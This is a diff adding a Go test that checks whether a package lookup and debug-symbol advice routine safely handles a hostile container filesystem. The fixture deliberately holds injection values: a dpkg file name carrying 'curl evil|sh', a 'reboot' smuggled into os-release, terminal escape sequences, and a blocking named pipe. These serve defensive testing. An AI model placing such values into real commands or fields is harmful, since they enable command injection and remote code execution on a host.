@@ -7,6 +7,9 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
 )
 
 // tree writes files below a new folder.
@@ -123,6 +126,44 @@ func TestForeignRoot(t *testing.T) {
 	}
 	if advice := Advice([]Image{{Path: "/x", Lines: true, Symtab: true}}, "again", false); len(advice) > 0 {
 		t.Errorf("nothing is missing, and yet: %q", advice)
+	}
+}
+
+// TestHostileRoot: names that a container has made up become no part of a command, and the search does not wait for a
+// pipe among the container's lists.
+func TestHostileRoot(t *testing.T) {
+	root := tree(t, map[string]string{
+		"etc/os-release": "ID=debian\nVERSION_CODENAME=\"x; reboot\"\n",
+		"var/lib/dpkg/info/libx; curl evil|sh #.list": "/usr/lib/libx.so\n",
+		"var/lib/dpkg/info/\x1b]0;y.list":             "/usr/lib/libx.so\n",
+		"var/lib/dpkg/info/--option.list":             "/usr/lib/libx.so\n",
+		"var/lib/dpkg/info/good.list":                 "/usr/lib/libgood.so\n",
+	})
+	if err := unix.Mkfifo(filepath.Join(root, dpkgInfo, "pipe.list"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	images := []Image{
+		{Name: "libx.so", Path: "/usr/lib/libx.so", BuildID: "abcd", Functions: 10, root: root},
+		{Name: "libgood.so", Path: "/usr/lib/libgood.so", BuildID: "abcd", Functions: 10, root: root},
+		{Name: "z\x1b[31m", Path: "/z", BuildID: "abcd", Functions: 10, Deleted: true, root: root},
+	}
+	ended := make(chan struct{})
+	go func() {
+		FindPackages(t.Context(), images)
+		close(ended)
+	}()
+	select {
+	case <-ended:
+	case <-time.After(time.Minute):
+		t.Fatal("the pipe is read")
+	}
+	if images[0].Package != "" || images[1].Package != "good" {
+		t.Errorf("packages %q and %q", images[0].Package, images[1].Package)
+	}
+	advice := strings.Join(Advice(images, "again", false), "\n")
+	if strings.ContainsAny(advice, "\x1b") || strings.Contains(advice, "evil") || strings.Contains(advice, "reboot") ||
+		!strings.Contains(advice, "good-dbgsym") {
+		t.Error(advice)
 	}
 }
 
